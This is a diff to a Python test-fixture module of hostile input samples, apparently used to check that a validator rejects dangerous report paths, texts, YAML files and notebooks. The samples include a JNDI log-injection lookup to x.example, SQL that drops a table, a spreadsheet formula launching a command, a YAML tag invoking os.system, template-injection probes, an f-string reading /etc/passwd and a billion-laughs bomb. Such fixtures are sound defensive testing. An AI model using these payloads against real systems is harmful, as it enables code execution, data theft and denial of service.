@@ -4,6 +4,7 @@ To add one, add a line here: the tests of its gate, and the count of all, follow
 """
 
 import json
+from itertools import pairwise
 
 DEEP = 100_000
 """Brackets inside one another."""
@@ -112,7 +113,7 @@ REPORTS: dict[str, str] = {
     "an upper case": "Reports/x.html",
     "a hidden file": "reports/.x.html",
     "a template": "reports/{x}.html",
-    "a quote": "reports/x.html\" onclick=\"a()",
+    "a quote": 'reports/x.html" onclick="a()',
     "a device with an ending": "reports/con.html",
     "a device as a folder": "reports/nul/x.html",
     "a dot at the end": "reports/ana./x.html",
@@ -129,7 +130,7 @@ TEXTS: dict[str, str] = {
     "an f-string": "f'{open(\"/etc/passwd\").read()}'",
     "a magic of IPython": "%run x.py\n!id\n?x",
     "a cell of Jupyter": "%%bash\nid",
-    "a template of Jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}",
+    "a template of Jinja": "{{7*7}}{% for x in ().__class__.__mro__ %}",
     "a template of format": "{0.__class__.__init__.__globals__}",
     "a template of format with a width": "{:>999999999}",
     "an open brace": "{",
@@ -139,7 +140,7 @@ TEXTS: dict[str, str] = {
     "a template of string": "$name ${name}",
     "a template of logs": "${jndi:ldap://x.example/a}",
     "SQL": "'; DROP TABLE records; --",
-    "a formula of a spreadsheet": "=HYPERLINK(\"//x.example\",\"x\")",
+    "a formula of a spreadsheet": '=HYPERLINK("//x.example","x")',
     "a formula with a plus": "+1+cmd|' /C calc'!A0",
     "a tag of YAML": "!!python/object/apply:os.system ['id']",
     "front matter": "---\nid: x\n---",
@@ -419,11 +420,11 @@ YAMLS: dict[str, str] = {
     "a tag of a company": "answers: !x 1\n",
     "a tag with an address": "answers: !<tag:yaml.org,2002:python/dict> {}\n",
     "a tag on a name": "!!str answers: {}\n",
-    "a tag by a directive": "%TAG ! tag:yaml.org,2002:python/\n---\nanswers: !dict {}\n",
+    "a tag by a directive": "%TAG ! tag:yaml.org,2002:\n---\nanswers: !str {}\n",
     "bytes": "answers: !!binary aGVsbG8=\n",
     "a set": "answers: !!set {x}\n",
     "a billion laughs": "a: &a [x, x]\n"
-    + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefghi", "bcdefghij")),
+    + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in pairwise("abcdefghij")),
     "an anchor": "answers: &a {}\n",
     "a reference to nothing": "answers: *a\n",
     "a reference to itself": "answers: &a [*a]\n",
@@ -603,7 +604,9 @@ NOTEBOOKS: dict[str, str] = {
     "code of dots": _notebook(_CELL | {"source": "a = x" + ".x" * 90_000}),
     "other parameters": _notebook(_CELL | {"source": "percent = 100"}),
     "a parameter unpacked": _notebook(_CELL | {"source": "attempt, answers = '', {}"}),
-    "a parameter of an object": _notebook(_CELL | {"source": "attempt.x = answers = 1"}),
+    "a parameter of an object": _notebook(
+        _CELL | {"source": "attempt.x = answers = 1"}
+    ),
     "a parameter too many": _notebook(
         _CELL | {"source": "attempt = ''\nanswers = {}\n__builtins__ = {}"}
     ),
